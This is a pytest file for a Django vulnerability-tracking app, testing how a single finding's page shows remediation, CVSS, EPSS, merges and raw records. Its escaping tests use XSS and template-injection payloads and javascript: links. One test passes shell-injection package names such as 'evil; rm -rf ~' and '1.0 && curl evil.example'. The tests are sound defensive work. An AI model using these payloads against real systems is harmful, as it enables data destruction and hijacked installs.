"""The page of one finding."""

import re
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client

from kairan.domain.severity import Severity

from .conftest import NOW


def page(client: Client, finding: Any) -> str:
    answer = client.get(f"/findings/F-{finding.id}/")
    assert answer.status_code == 200
    return answer.content.decode()


def plain(text: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", "", text).split())


def test_says_what_to_do_first(viewer: Client, street: Any) -> None:
    text = plain(page(viewer, street.finding(package="openssl", installed="1.0.1", fixed="1.0.2")))
    assert "Upgrade openssl from 1.0.1 to 1.0.2" in text


def test_a_control_shows_its_remedy_and_a_secret_what_to_revoke(viewer: Client, street: Any) -> None:
    control = street.finding(kind="misconfiguration", id="KSV-1", package="", fixed="", remediation="Set runAsNonRoot")
    secret = street.finding(kind="secret", id="aws-key", package="", fixed="")
    assert "Set runAsNonRoot" in page(viewer, control)
    assert "Revoke this secret" in page(viewer, secret)


def test_without_a_fix_it_says_so_and_what_the_vendor_says(viewer: Client, street: Any) -> None:
    text = page(viewer, street.finding(fixed="", status="will_not_fix"))
    assert "No fixed version is known." in text
    assert "The vendor will not fix it" in text


def test_shows_all_that_is_known(viewer: Client, street: Any) -> None:
    finding = street.finding(
        id="CVE-2021-44228", ids=["GHSA-jfh8-c2jp-5v3q"], severity=Severity.CRITICAL, severity_source="ghsa",
        occurrences=[{"path": "a.jar", "tag": "1.2"}, {"path": "b.jar", "vendor_ids": ["X-1", "X-2"], "new": {"a": 1}}],
    )  # fmt: skip
    street.event(finding, "changed", severity=[4, 5], fixed=["", "2.15.0"])
    street.event(finding, "sighted", scope=street.scope.id)
    street.event(finding, "merged", finding=77)
    street.event(finding, "flown_to_the_moon", rocket="R7")
    text = page(viewer, finding)
    for said in ("GHSA-jfh8-c2jp-5v3q", "a.jar", "b.jar", "X-1, X-2", "CVSS:3.1/AV:N/AC:L", "8.1", "CWE-79"):
        assert said in text
    words = plain(text)
    assert "according to ghsa" in words
    assert "Severity High → Critical" in words
    assert "Scope registry.example/shop:1.2" in words
    assert "flown_to_the_moon rocket R7" in words
    assert 'href="/findings/F-77/"' in text


def test_a_live_sighting_was_last_seen_at_the_watermark(viewer: Client, street: Any) -> None:
    finding = street.finding(seen=NOW - timedelta(days=3))
    street.scope.watermark = NOW + timedelta(days=2, seconds=7)
    street.scope.save()
    assert "2026-07-05 12:00:07 (UTC)" in page(viewer, finding)


def test_a_closed_one_says_why(viewer: Client, street: Any) -> None:
    text = plain(page(viewer, street.finding(open=False, reason="asset_gone")))
    assert "Nothing: it is closed. The asset is gone." in text
    assert "Asset gone" in text


def test_a_merged_one_leads_on(viewer: Client, street: Any) -> None:
    kept, gone = street.finding(), street.finding(open=False)
    gone.merged_into = kept
    gone.save()
    answer = viewer.get(f"/findings/F-{gone.id}/")
    assert (answer.status_code, answer["Location"]) == (302, f"/findings/F-{kept.id}/")


def test_ids_in_any_case_and_unknown_ones(viewer: Client, street: Any) -> None:
    finding = street.finding()
    assert viewer.get(f"/findings/f-{finding.id}/").status_code == 200
    for address in ("F-999999999", "F-" + "9" * 18, "F-" + "9" * 30, "F-1x", "123", "F-0"):
        answer = viewer.get(f"/findings/{address}/")
        assert answer.status_code == 404
        assert "There is nothing at this address" in answer.content.decode()


HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7 }}‮{% now %}"


@pytest.mark.parametrize("language", ["en", "ja"])
def test_hostile_texts_are_texts(language: str, person: Any, street: Any) -> None:
    client = Client()
    client.force_login(person("viewer", language=language, name=HOSTILE))
    finding = street.finding(
        id=HOSTILE, ids=[HOSTILE + "2"], title=HOSTILE, description=HOSTILE, package=HOSTILE, asset=HOSTILE,
        location=HOSTILE, installed=HOSTILE, fixed=HOSTILE, status=HOSTILE, severity_source=HOSTILE, cwes=[HOSTILE],
        remediation=HOSTILE, occurrences=[{HOSTILE: HOSTILE}], asset_kind=HOSTILE, kind=HOSTILE,
        cvss=[{"by": HOSTILE, "version": HOSTILE, "vector": HOSTILE, "score": None}],
        links=["javascript:alert(3)", " javascript:alert(4)", "data:text/html,x", "https://ok.example/", "http://["],
    )  # fmt: skip
    street.event(finding, HOSTILE, **{HOSTILE: [HOSTILE, HOSTILE]})
    listing = client.get("/findings/").content.decode()
    assert "c-id" in listing
    for text in (listing, page(client, finding)):
        assert "<script>alert" not in text
        assert "<img" not in text
        assert "onerror=alert(2)>" not in text
        assert re.findall(r'href="(?!/|#main"|https://ok\.example/|https://avd\.)([^"]*)', text) == []
    assert "javascript:alert(3)" in page(client, finding)
    assert 'href="https://ok.example/" rel="noopener noreferrer nofollow"' in page(client, finding)


def test_absurdly_long_names_stay_whole_on_the_page_and_short_in_the_list(viewer: Client, street: Any) -> None:
    finding = street.finding(package="p" * 10_000, asset="a" * 10_000)
    assert "p" * 10_000 in page(viewer, finding)
    assert len(viewer.get("/findings/").content) < 20_000


def test_queries_do_not_grow_with_the_sightings(viewer: Client, street: Any, django_assert_num_queries: Any) -> None:
    finding = street.finding(ids=["GHSA-aaaa-bbbb-cccc"])
    for number in range(20):
        street.event(finding, "sighted", scope=number)
    with django_assert_num_queries(10):  # session, person, finding, ids, sightings, advisories, events, EPSS; why: two
        page(viewer, finding)


def test_a_command_can_be_copied_only_where_it_does_nothing_else(viewer: Client, street: Any) -> None:
    from kairan.store.models import Package

    for key, name, fixed, command in (
        ("pkg:npm/lodash", "lodash", "4.17.21", "npm install lodash@4.17.21"),
        ("pkg:pypi/evil", "evil; rm -rf ~", "1.0", ""),
        ("pkg:pypi/flag", "--index-url=http://evil.example", "1.0", ""),
        ("pkg:npm/x", "x", "1.0 && curl evil.example", ""),
        ("pkg:deb/debian/openssl", "openssl", "1.1.1n-0+deb11u5", ""),
    ):
        finding = street.finding(package=name, fixed=fixed)
        ecosystem = key.partition(":")[2].partition("/")[0]
        Package.objects.filter(pk=finding.package_id).update(ecosystem=ecosystem, key=key)
        shown = re.findall(r'<input class="command[^>]* value="([^"]*)"', page(viewer, finding))
        assert shown in ([command], [fixed.replace("&", "&amp;")] if not command else [])
        assert not command or shown == [command]


def test_of_several_fixed_versions_the_nearest_is_named(viewer: Client, street: Any) -> None:
    finding = street.finding(installed="2.12.1", fixed="2.3.1, 2.12.2, 2.15.0")
    assert "Nearest to what is installed: 2.12.2" in plain(page(viewer, finding))


def test_cvss_is_told_in_words_and_an_invalid_vector_as_it_stands(viewer: Client, street: Any) -> None:
    vector = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:L/A:N"
    finding = street.finding(
        cvss=[
            {"by": "nvd", "version": "3.1", "vector": vector, "score": 8.2},
            {"by": "ghsa", "version": "3.1", "vector": vector, "score": 8.2},
            {"by": "redhat", "version": "3.1", "vector": vector.replace("C:H", "C:L"), "score": None},
            {"by": "acme", "version": "9.9", "vector": "CVSS:9.9/XX:Y", "score": 1.0},
        ]
    )
    text = plain(page(viewer, finding))
    assert "v3.1 · nvd, ghsa" in text
    for words in ("Attack vector Network", "User interaction Required", "Scope Changed", "Availability None"):
        assert words.replace(" ", "") in text.replace(" ", "")
    assert "Nobody gives a number: it follows from the vector." in text
    assert "This vector is not valid" in text
    assert "CVSS:9.9/XX:Y" in text


def test_epss_is_a_probability_with_its_date_and_never_no(viewer: Client, street: Any) -> None:
    from kairan.store.models import Epss, Identifier

    finding = street.finding()
    assert "Probability of exploitation (EPSS)No data" in plain(page(viewer, finding)).replace(") No", ")No")
    Epss.objects.create(
        identifier=Identifier.objects.get(), probability=0.9753, percentile=0.9991, publisher="first", as_of=NOW
    )
    text = plain(page(viewer, finding))
    assert "97.53% within 30 days" in text
    assert "99.91% of all CVEs" in text
    assert "first" in text


def test_a_control_has_neither_cvss_nor_epss(viewer: Client, street: Any) -> None:
    assert "EPSS" not in page(viewer, street.finding(kind="misconfiguration", id="KSV-1", package=""))


def test_leads_on_to_vulnerability_asset_package_and_run(viewer: Client, street: Any) -> None:
    finding = street.finding(id="CVE-2021-44228", package="log4j core")
    run = street.run(title="a report")
    street.event(finding, "changed", fixed=["", "2"])
    finding.events.update(run=run)
    text = page(viewer, finding)
    assert 'href="/vulnerabilities/CVE-2021-44228/"' in text
    assert f'href="/assets/{finding.asset_id}/"' in text
    assert f'href="/runs/{run.pk}/"' in text
    assert "package%3A%22log4j+core%22" in text


@pytest.mark.parametrize("value", ["arn:aws:x/y/z", "a b?c#d%e", "two\nlines", ".", "ä/ö"])
def test_ids_of_any_kind_have_an_address(value: str, viewer: Client, street: Any) -> None:
    finding = street.finding(id=value)
    [address] = re.findall(r'class="quiet-link" href="([^"]*)"', page(viewer, finding))
    assert viewer.get(address).status_code == 200


def test_markdown_of_github_is_rendered_and_nvds_lines_stay(viewer: Client, street: Any) -> None:
    rendered = page(viewer, street.finding(description="### Impact\n\n*bad* [x](javascript:alert(1))"))
    assert "<h4>Impact</h4>" in rendered
    assert "<em>bad</em>" in rendered
    assert 'href="javascript' not in rendered
    assert "two\n*lines*" in page(viewer, street.finding(description="two\n*lines*"))


def test_a_drawer_gets_the_sheet_without_the_frame(viewer: Client, street: Any) -> None:
    finding = street.finding(id="CVE-2021-44228")
    answer = viewer.get(f"/findings/F-{finding.id}/?drawer=1", headers={"HX-Request": "true"})
    text = answer.content.decode()
    assert "HX-Request" in answer["Vary"]
    assert text.count("<article") == 1
    assert "CVE-2021-44228" in text
    assert "<html" not in text
    assert "<html" in viewer.get(f"/findings/F-{finding.id}/?drawer=1").content.decode()


def test_a_drawer_follows_a_merge_and_stays_one(viewer: Client, street: Any) -> None:
    merged, into = street.finding(), street.finding()
    type(merged).objects.filter(pk=merged.pk).update(merged_into=into)
    answer = viewer.get(f"/findings/F-{merged.id}/?drawer=1", headers={"HX-Request": "true"}, follow=True)
    assert answer.redirect_chain == [(f"/findings/F-{into.id}/?drawer=1", 302)]


class TestRawRecord:
    """What the source literally said, looked up in the archived answer."""

    @pytest.fixture
    def address(self, store: None) -> str:
        from kairan.store.models import Sighting
        from tests.reports import record, report, take

        take(report(record("CVE-2026-0001", Title="<script>alert(1)</script>"), record("CVE-2026-0002", "curl")))
        sighting = Sighting.objects.get(identifier__value="CVE-2026-0001")
        return f"/findings/F-{sighting.finding_id}/raw/{sighting.pk}/"

    def test_shows_this_record_and_no_other(self, address: str, person: Any) -> None:
        client = Client()
        client.force_login(person("viewer"))
        text = client.get(address).content.decode()
        assert "Results[0].Vulnerabilities[0]" in text
        assert "&quot;PkgName&quot;: &quot;openssl&quot;" in text
        assert "CVE-2026-0002" not in text
        assert "<script>alert" not in text
        fragment = client.get(address, headers={"HX-Request": "true"}).content.decode()
        assert "<html" not in fragment
        assert "PkgName" in fragment

    def test_belongs_to_its_finding(self, address: str, person: Any) -> None:
        client = Client()
        client.force_login(person("viewer"))
        assert client.get(re.sub(r"F-\d+", "F-999", address)).status_code == 404

    @pytest.mark.parametrize(
        ("name", "value", "says"),
        [("MOST_BYTES", 10, "too large"), ("MOST_SECONDS", -1.0, "took too long")],
    )
    def test_is_bounded(
        self, name: str, value: float, says: str, address: str, person: Any, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(f"kairan.services.raw_record.{name}", value)
        client = Client()
        client.force_login(person("viewer"))
        assert says in client.get(address).content.decode()

    def test_says_when_the_archive_has_lost_it(self, address: str, person: Any, archive_home: Any) -> None:
        from kairan.store.models import Run

        client = Client()
        client.force_login(person("viewer"))
        for file in archive_home.rglob("*.zst"):
            file.unlink()
        assert "cannot be read any more" in client.get(address).content.decode()
        Run.objects.update(archived="")
        assert "was not archived" in client.get(address).content.decode()
